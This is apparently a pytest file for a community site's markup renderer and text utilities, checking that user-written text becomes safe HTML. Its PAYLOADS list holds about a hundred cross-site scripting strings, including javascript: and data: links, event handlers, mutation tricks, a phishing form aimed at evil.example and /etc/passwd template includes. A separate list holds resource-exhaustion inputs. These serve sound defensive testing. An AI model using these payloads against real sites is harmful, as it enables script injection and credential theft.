"""What people write becomes safe HTML, and what cannot be seen is not kept."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kimhub.core.errors import Invalid
from kimhub.core.markup import MAX_LENGTH, MAX_MENTIONS
from kimhub.core.text import (
    checked_line,
    checked_text,
    clean_line,
    clean_text,
    excerpt,
    initials,
    mentions,
    plain,
    render_markup,
    search_norm,
    slugify,
)
from kimhub.core.whatsapp import MAX_DEPTH

pytestmark = pytest.mark.once

TAGS = {
    "a",
    "p",
    "br",
    "strong",
    "em",
    "del",
    "ul",
    "ol",
    "li",
    "blockquote",
    "cite",
    "code",
    "pre",
    "h3",
    "h4",
    "hr",
}
ATTRIBUTES = {("a", "href"), ("a", "rel"), ("a", "class"), ("ol", "start")}


class Reader(HTMLParser):
    """Reads HTML as a browser would and notes every element that our pages must never carry."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.links: list[str] = []
        self.depth = self.deepest = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        if tag in {"blockquote", "ul", "ol"}:
            self.depth += 1
            self.deepest = max(self.deepest, self.depth)
        for name, value in attrs:
            if (tag, name) not in ATTRIBUTES:
                self.faults.append(f"{tag} {name}={value}")
            if name == "href":
                self.links.append(value or "")
                if not is_safe(value or ""):
                    self.faults.append(f"href={value}")
            if name == "rel" and value != "nofollow ugc noopener":
                self.faults.append(f"rel={value}")
            if name == "class" and value != "mention":
                self.faults.append(f"class={value}")

    def handle_endtag(self, tag: str) -> None:
        self.depth -= tag in {"blockquote", "ul", "ol"}

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def is_safe(address: str) -> bool:
    if any(ord(char) <= 0x20 or char == "\\" for char in address):
        return False
    parts = urlsplit(address)
    if not parts.scheme:
        return address.startswith("/") and not address.startswith("//")
    return parts.scheme in {"http", "https", "mailto", "tel"}


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=1em>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='//evil.example'><input name=password><button>Masuk</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<select><option><script>alert(1)</script></option></select>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html><p onclick=alert(1)>",
    "<div hx-get='/akun/hapus' hx-trigger=load>x</div>",
    "<div data-hx-post='/akun/hapus' data-hx-trigger=load>x</div>",
    "<a hx-on:click='alert(1)' href='/x'>x</a>",
    "<p id=main class=notice name=csrf>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](blob:https://kim.example/1)",
    "[x](file:///etc/passwd)",
    "[x](intent://x#Intent;scheme=http;end)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](\\\\evil.example)",
    "[x](/\t/evil.example)",
    '[x](http://x.id/" onmouseover="alert(1))',
    "[x](http://x.id/ 'onmouseover=alert(1)')",
    '[x](http://x.id/ "a\\" onmouseover=alert(1) b")',
    "[<img src=x onerror=alert(1)>](http://x.id)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    '<http://x.id/"onmouseover=alert(1)>',
    'http://x.id/"onmouseover=alert(1)',
    "https://x.id/<script>alert(1)</script>",
    "www.x.id/'><script>alert(1)</script>",
    'a@b.id"onclick=alert(1)',
    "![x](http://x.id/x.png)",
    '![x" onerror="alert(1)](http://x.id/x.png)',
    '![x](x" onerror="alert(1))',
    "![](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```html"onmouseover=alert(1)\nx\n```',
    "    </code></pre><script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "*<b onclick=alert(1)>tebal</b>*",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)",
    '@andi" onclick="alert(1)',
    "@<script>alert(1)</script>",
    "{{ 7*7 }} {% include '/etc/passwd' %}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "halo *{}* _{}_", "> - {}\n{}", "[{}](https://x.id/{})"])
def test_no_payload_survives(payload: str, frame: str) -> None:
    html = render_markup(frame.replace("{}", payload), {"andi": "/anggota/andi"})
    assert read(html).faults == []
    assert read(html).deepest <= 3


def test_there_are_at_least_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@given(st.text(alphabet="<>&\"'`*_~[]()!#-+>\n \t/\\:@=.;a1xjavscript", max_size=200))
def test_no_mixture_of_signs_makes_anything_unsafe(text: str) -> None:
    html = render_markup(text, {"a": "/x", "javascript": "/y"})
    assert read(html).faults == []
    assert read(html).deepest <= 3 * MAX_DEPTH


def test_an_address_for_a_mention_cannot_break_out() -> None:
    for address in ('/x"onclick="alert(1)', "javascript:alert(1)", "//evil.example", "/x><script>"):
        assert read(render_markup("@andi", {"andi": address})).faults == []


@pytest.mark.parametrize(
    ("written", "html"),
    [
        ("*tebal* _miring_ ~coret~", "<p><strong>tebal</strong> <em>miring</em> <del>coret</del></p>"),
        ("*tebal _dua_*", "<p><strong>tebal <em>dua</em></strong></p>"),
        ("**tebal**", "<p><strong>tebal</strong></p>"),
        ("📢*PENTING!*📢", "<p>📢<strong>PENTING!</strong>📢</p>"),
        ("5*3*2 dan a * b *c", "<p>5*3*2 dan a * b *c</p>"),
        ("nama_berkas_baru ~5000 sampai ~6000", "<p>nama_berkas_baru ~5000 sampai ~6000</p>"),
        ("satu\ndua\n\ntiga", "<p>satu<br>\ndua</p>\n<p>tiga</p>"),
        ("- satu\n- dua", "<ul>\n<li>satu</li>\n<li>dua</li>\n</ul>"),
        ("• satu\n● dua", "<ul>\n<li>satu</li>\n<li>dua</li>\n</ul>"),
        ("1. satu\n2. dua", "<ol>\n<li>satu</li>\n<li>dua</li>\n</ol>"),
        ("3) tiga", '<ol start="3">\n<li>tiga</li>\n</ol>'),
        ("- satu\nTerima kasih", "<ul>\n<li>satu</li>\n</ul>\n<p>Terima kasih</p>"),
        ("- satu\n  lanjut", "<ul>\n<li>satu<br>\nlanjut</li>\n</ul>"),
        ("> kutip\njawab", "<blockquote>\n<p>kutip</p>\n</blockquote>\n<p>jawab</p>"),
        (
            "> [Siti menulis](/forum/t/12?p=5):\n> Besok *kumpul*",
            '<blockquote>\n<cite><a href="/forum/t/12?p=5" rel="nofollow ugc noopener">Siti menulis</a>'
            "</cite>\n<p>Besok <strong>kumpul</strong></p>\n</blockquote>",
        ),
        (
            "> [Siti](https://x.id/forum/t/12?p=5):\n> Besok",
            '<blockquote>\n<p><a href="https://x.id/forum/t/12?p=5" rel="nofollow ugc noopener">Siti</a>:'
            "<br>\nBesok</p>\n</blockquote>",
        ),
        ("`*kode*`", "<p><code>*kode*</code></p>"),
        ("```\n*kode* <b>\n```", "<pre><code>*kode* &lt;b&gt;\n</code></pre>"),
        ("     menjorok", "<p>menjorok</p>"),
        ("# Judul\n#### Anak", "<h3>Judul</h3>\n<h4>Anak</h4>"),
        ("#tagar", "<p>#tagar</p>"),
        ("teks\n---", "<p>teks</p>\n<hr>"),
        ("3 < 5 & 7 > 6", "<p>3 &lt; 5 &amp; 7 &gt; 6</p>"),
        ("<b>tebal</b>", "<p>&lt;b&gt;tebal&lt;/b&gt;</p>"),
        ("[catatan]: http://x.id", None),
        ("|a|b|\n|-|-|\n|c|d|", "<p>|a|b|<br>\n|-|-|<br>\n|c|d|</p>"),
        ("", ""),
        (" \n\n\t", ""),
    ],
)
def test_writing_reads_as_in_whatsapp(written: str, html: str | None) -> None:
    rendered = render_markup(written)
    assert plain(rendered) == "[catatan]: http://x.id" if html is None else rendered == html


REL = 'rel="nofollow ugc noopener"'


@pytest.mark.parametrize(
    ("written", "html"),
    [
        ("Lihat https://x.id/a_b_c.", f'Lihat <a href="https://x.id/a_b_c" {REL}>https://x.id/a_b_c</a>.'),
        ("*https://x.id/a*", f'<strong><a href="https://x.id/a" {REL}>https://x.id/a</a></strong>'),
        ("www.x.id", f'<a href="http://www.x.id" {REL}>www.x.id</a>'),
        ("<https://x.id>", f'<a href="https://x.id" {REL}>https://x.id</a>'),
        ("[kata](https://x.id/*a*)", f'<a href="https://x.id/*a*" {REL}>kata</a>'),
        ("[kata](/forum/1)", f'<a href="/forum/1" {REL}>kata</a>'),
        ("![foto](https://x.id/f.png)", f'<a href="https://x.id/f.png" {REL}>foto</a>'),
        ("![](https://x.id/f.png)", f'<a href="https://x.id/f.png" {REL}>https://x.id/f.png</a>'),
        ("siti@kim.id", f'<a href="mailto:siti@kim.id" {REL}>siti@kim.id</a>'),
        ("[kata](ftp://x.id)", "kata"),
        ("[kata]()", "kata"),
    ],
)
def test_links_are_marked_and_pictures_become_links(written: str, html: str) -> None:
    assert render_markup(written) == f"<p>{html}</p>"


def test_mentions_are_found_and_linked() -> None:
    text = "Halo @Andi. @budi_x, `@kode` siti@kim.id https://x.id/@url @@dua @a @andi"
    assert mentions(text) == ["andi", "budi_x"]
    html = render_markup(text, {"andi": "/anggota/andi?a=1&b=2"})
    assert html.count('<a class="mention" href="/anggota/andi?a=1&amp;b=2"') == 2
    assert ">@Andi</a>." in html
    assert "@budi_x," in html
    assert mentions(" ".join(f"@orang{n}" for n in range(50))) == [f"orang{n}" for n in range(MAX_MENTIONS)]


HOSTILE = {
    "quotes": ">" * 100_000,
    "quotes on lines": "".join(">" * (i % 9) + "a\n" for i in range(12_000)),
    "bullets": "- " * 50_000,
    "numbers": "1. " * 33_000 + "a",
    "indented lists": "".join("  " * min(i, 300) + "- a\n" for i in range(200)),
    "brackets": "[" * 100_000,
    "links": "[a](" * 25_000,
    "nested links": "[" * 5000 + "a" + "](x)" * 5000,
    "images": "![" * 50_000,
    "stars": "*a " * 33_000,
    "nested marks": "*a _b " * 8000 + "c_ d* " * 8000,
    "doubled stars": "**" * 25_000 + "a" + "**" * 24_000,
    "backticks": "".join("`" * i + "a" for i in range(1, 440)),
    "fences": "```\n" * 25_000,
    "angles": "<" * 100_000,
    "ampersands": "&" * 100_000,
    "joiners": "a" + "\u200d" * 99_000,
    "accents": "a" + "\u0301" * 99_000,
    "lines": "\n" * 100_000,
    "definitions": "".join(f"[{i}]: http://x\n" for i in range(3000)) + "[1]" * 3000,
    "address": "https://x.id/" + "*_~" * 33_000,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_text_costs_little_and_nests_little(text: str) -> None:
    html = render_markup(text)
    assert len(html) < 12 * len(text) + 100
    assert read(html).deepest <= 2 * MAX_DEPTH + 1
    assert plain(html) is not None


def test_a_very_long_text_stays_plain_paragraphs() -> None:
    html = render_markup("*a* <b>\n\n" * (MAX_LENGTH // 8))
    assert html.startswith("<p>*a* &lt;b&gt;</p>\n<p>")
    assert read(html).faults == []


def test_plain_text_and_excerpts() -> None:
    html = render_markup("*Halo* & <b>\n\n- satu\n- dua\nhttps://x.id")
    assert plain(html) == "Halo & <b>\nsatu\ndua\nhttps://x.id"
    assert excerpt("Pelatihan menulis berita desa", 18) == "Pelatihan menulis…"
    assert excerpt("Pelatihan menulis berita", 17) == "Pelatihan menulis…"
    assert excerpt("pendek\nsaja", 40) == "pendek saja"
    assert excerpt("a" * 50, 10) == "a" * 10 + "…"
    assert excerpt("satu, dua", 5) == "satu…"


@given(st.text(max_size=300), st.integers(2, 50))
def test_an_excerpt_is_never_longer(text: str, most: int) -> None:
    assert len(excerpt(text, most)) <= most + 1


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("Pelatihan Menulis Berita", "pelatihan-menulis-berita"),
        ("  Jum'at Bersih: RT 03/RW 01!  ", "jumat-bersih-rt-03-rw-01"),
        ("Café Désa", "cafe-desa"),
        ("ꦏꦶꦩ꧀", "tanpa-judul"),
        ("../../etc", "etc"),
        ("a" * 100, "a" * 60),
        ("kata " * 30, "-".join(["kata"] * 12)),
    ],
)
def test_slugs(title: str, slug: str) -> None:
    assert slugify(title) == slug
    assert len(slug) <= 60


@pytest.mark.parametrize(
    ("name", "letters"),
    [
        ("Rahmawati Latief", "RL"),
        ("Hj. Rosmini, S.Kom.", "R"),
        ("H. Andi Baso Mappanyukki", "AM"),
        ("Drs. H. Muhammad Fadli, M.Si.", "MF"),
        ("A. Rahman", "AR"),
        ("Siti Nurhaliza S.Pd", "SN"),
        ("sukarno", "S"),
        ("Bapak", "B"),
        ("d'Arc (Ani)", "DA"),
        ("ßtraße x", "SX"),
        ("", ""),
        ("…", ""),
    ],
)
def test_initials_leave_titles_out(name: str, letters: str) -> None:
    assert initials(name) == letters


def test_names_are_searched_without_their_ornaments() -> None:
    assert search_norm("Kab. Pangkal  Pinang") == "kab pangkal pinang"
    assert search_norm("Pangkal Pinang", compact=True) == search_norm("pangkalpinang") == "pangkalpinang"
    assert search_norm("Regapu’u É_1") == "regapuu e 1"


def test_what_cannot_be_seen_is_not_kept() -> None:
    assert clean_line("\ufeff Siti\u200b \u202eAminah\u202c\x00\n\t X\u00ad ") == "Siti Aminah X"
    assert clean_line("\u3164\u2800\u200d") == ""
    assert clean_line("cafe\u0301") == "café"
    assert clean_line("a\ud800b") == "ab"
    assert clean_line("a" + "\u0301" * 40) == "á\u0301\u0301"
    assert clean_line("admin\u200d\u200c") == "admin"
    assert clean_line("👩\u200d🌾 tani") == "👩\u200d🌾 tani"
    assert clean_text("a\r\nb\u2028c\r\n\r\n\r\n\r\n  d  \n\n") == "a\nb\nc\n\n  d"


@given(st.text())
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    for clean in (clean_line, clean_text):
        once = clean(text)
        assert clean(once) == once
        once.encode()
        assert "\0" not in once


def test_lengths_are_checked_with_a_sentence() -> None:
    assert checked_line("  Siti  Aminah ", "name") == "Siti Aminah"
    assert checked_line(" \u200b", "note", least=0) == ""
    for call, says in (
        (lambda: checked_line("\u200b", "name", empty="Tulis nama Anda."), "Tulis nama Anda."),
        (lambda: checked_line("", "name"), "perlu diisi"),
        (lambda: checked_line("ab", "name", least=3), "sedikit 3"),
        (lambda: checked_text("a" * 30, "name", most=20), "30 huruf, paling banyak 20"),
    ):
        with pytest.raises(Invalid) as refused:
            call()
        assert says in refused.value.errors["name"]
